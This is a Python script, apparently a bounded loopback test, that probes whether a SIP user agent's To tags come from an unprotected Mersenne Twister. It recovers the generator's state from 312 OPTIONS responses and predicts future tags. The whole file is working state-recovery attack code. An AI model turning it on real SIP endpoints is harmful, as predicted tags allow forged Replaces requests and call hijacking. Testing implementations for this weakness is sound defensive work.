#!/usr/bin/env python3
"""tagpredict.py: can a peer predict the tags and Call-IDs a UA makes? (an
attack on Replaces, RFC 3891 8, and on RFC 3261 19.3's "cryptographically
random" tags; loopback only, bounded).

  tagpredict.py HOST:PORT OUTFILE

Sends 312 OPTIONS to HOST:PORT one after the other; each 200 carries a fresh
To tag of 16 hex digits.  If those are two consecutive outputs of a Mersenne
Twister (MT19937, GLib's g_random_int), the 624 outputs give its state, and
the generator's next 4000 outputs are written to OUTFILE, as 8 hex digits a
line.  Then one more OPTIONS: prints "predicted" when its tag is what the
generator said, else "unpredicted" (a timeout: "timeout").
"""
import random
import socket
import sys
import time
import uuid


def untemper(y):
    y ^= y >> 18
    y ^= (y << 15) & 0xEFC60000
    t = y
    for _ in range(5):
        t = y ^ ((t << 7) & 0x9D2C5680)
    y = t & 0xFFFFFFFF
    t = y
    for _ in range(3):
        t = y ^ (t >> 11)
    return t & 0xFFFFFFFF


def options(sock, addr, port, n):
    msg = ("OPTIONS sip:bob@%s:%d SIP/2.0\r\n"
           "Via: SIP/2.0/UDP 127.0.0.1:%d;branch=z9hG4bK%s\r\n"
           "From: <sip:eve@127.0.0.1>;tag=e%d\r\n"
           "To: <sip:bob@%s>\r\n"
           "Call-ID: %s\r\n"
           "CSeq: 1 OPTIONS\r\n"
           "Max-Forwards: 70\r\n"
           "Content-Length: 0\r\n\r\n") % (addr, int(port), sock.getsockname()[1], uuid.uuid4().hex, n, addr,
                                           uuid.uuid4().hex)
    sock.sendto(msg.encode(), (addr, int(port)))
    deadline = time.time() + 5
    while time.time() < deadline:
        sock.settimeout(max(0.01, deadline - time.time()))
        try:
            data, _ = sock.recvfrom(70000)
        except socket.timeout:
            return None
        text = data.decode(errors="replace")
        if not text.startswith("SIP/2.0 2"):
            continue
        for line in text.split("\r\n"):
            if line.lower().startswith("to:") and ";tag=" in line:
                return line.split(";tag=", 1)[1].split(";")[0].strip()
    return None


def main():
    if len(sys.argv) != 3:
        sys.stderr.write(__doc__)
        sys.exit(2)
    addr, port = sys.argv[1].rsplit(":", 1)
    sock = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    sock.bind(("127.0.0.1", 0))
    outs = []
    for n in range(312):
        tag = options(sock, addr, port, n)
        if tag is None or len(tag) != 16:
            print("timeout" if tag is None else "unpredicted")
            return
        outs += [int(tag[:8], 16), int(tag[8:], 16)]
    gen = random.Random()
    gen.setstate((3, tuple([untemper(o) for o in outs] + [624]), None))
    future = [gen.getrandbits(32) for _ in range(4000)]
    with open(sys.argv[2], "w") as f:
        f.write("".join("%08x\n" % v for v in future))
    tag = options(sock, addr, port, 312)
    if tag is None:
        print("timeout")
    else:
        print("predicted" if tag == "%08x%08x" % (future[0], future[1]) else "unpredicted")


main()
